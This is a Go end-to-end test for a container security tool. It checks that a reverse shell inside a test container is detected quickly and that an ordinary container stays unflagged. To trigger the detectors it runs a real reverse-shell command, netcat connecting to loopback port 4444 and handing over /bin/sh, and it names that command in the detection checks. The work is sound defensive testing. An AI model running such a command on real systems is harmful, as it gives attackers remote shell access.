package e2e

import (
	"strings"
	"testing"
	"time"

	"github.com/gabion-dev/gabion/event"
	"github.com/gabion-dev/gabion/internal/minicontainer"
)

// TestDetectionsWithoutPolicyOrLearning: a reverse shell (over the container's
// own loopback) is found within a second in a container that no policy selects
// and nothing was learned of; one that does ordinary things is left alone.
func TestDetectionsWithoutPolicyOrLearning(t *testing.T) {
	m := need(t)
	bad := m.container("victim", nil, "/bin/sleep", "600")
	m.container("plain", nil, "/bin/sh", "-c", "id; ls /; echo ok > /tmp/x; cat /tmp/x; while true; do sleep 1; done")
	m.state("victim", "learning")
	m.state("plain", "learning")
	// The other end: it says one line and hears the answer.
	listening := make(chan error, 1)
	go func() {
		_, err := bad.Exec(m.ctx, minicontainer.ExecSpec{Args: []string{"/bin/nc", "-l", "-p", "4444"}, Stdin: strings.NewReader("exit\n")})
		listening <- err
	}()
	began := time.Now()
	out, _ := m.sh(bad, `for i in 1 2 3 4 5 6 7 8 9; do nc 127.0.0.1 4444 -e /bin/sh && break; sleep 0.1; done`)
	ended := time.Now()
	if err := <-listening; err != nil {
		t.Fatal(err)
	}
	detection := func(name string) event.Event {
		return m.event("detection "+name, func(e event.Event) bool {
			return e.Kind == event.Detection && e.Rule != nil && e.Rule.Policy == "Detection/"+name
		}, "--kind", "detection", "--workload", "shop/victim")
	}
	// By its command line, and by what it is: a shell whose input is a socket.
	for name, words := range map[string]string{"network-tool-runs-program": "nc 127.0.0.1 4444 -e /bin/sh", "reverse-shell": "as sh"} {
		e := detection(name)
		if e.Severity != event.Critical || e.Workload.Name != "victim" || !strings.Contains(e.Message, words) || e.Count != 1 {
			t.Errorf("event %+v", e)
		}
		if late := e.Last.Sub(began); late > 10*time.Second {
			t.Errorf("%s happened %s after the shell was started\n%s", name, late, out)
		}
	}
	if told := time.Since(ended); told > 10*time.Second {
		t.Errorf("both were told %s after the shell had ended", told)
	}
	list, err := m.g.Events(m.ctx, "--kind", "detection", "--workload", "shop/plain")
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range list {
		t.Errorf("found in an ordinary container: %s", e.Message)
	}
}
